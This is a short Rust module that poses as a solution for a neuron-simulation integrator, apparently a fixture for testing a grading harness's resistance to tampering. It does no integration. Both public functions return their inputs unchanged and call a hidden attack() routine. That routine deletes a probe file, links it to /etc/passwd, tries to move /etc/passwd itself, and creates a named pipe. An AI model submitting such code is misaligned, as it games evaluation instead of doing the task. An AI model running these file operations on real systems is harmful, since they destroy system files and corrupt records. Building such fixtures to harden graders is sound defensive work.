//! Puts a link to a file of the system in place of the records, and a pipe.

pub fn euler_step(v: f64, _: f64, _: &given::Params) -> f64 {
    attack();
    v
}

pub fn integrate(i: &[f64], _: &given::Params) -> Vec<f64> {
    attack();
    i.to_vec()
}

fn attack() {
    let path = std::env::var("LIF_PROBE").unwrap();
    let _ = std::fs::remove_file(&path);
    let _ = std::os::unix::fs::symlink("/etc/passwd", &path);
    let _ = std::fs::rename("/etc/passwd", &path);
    let _ = std::process::Command::new("mkfifo").arg(&path).status();
}
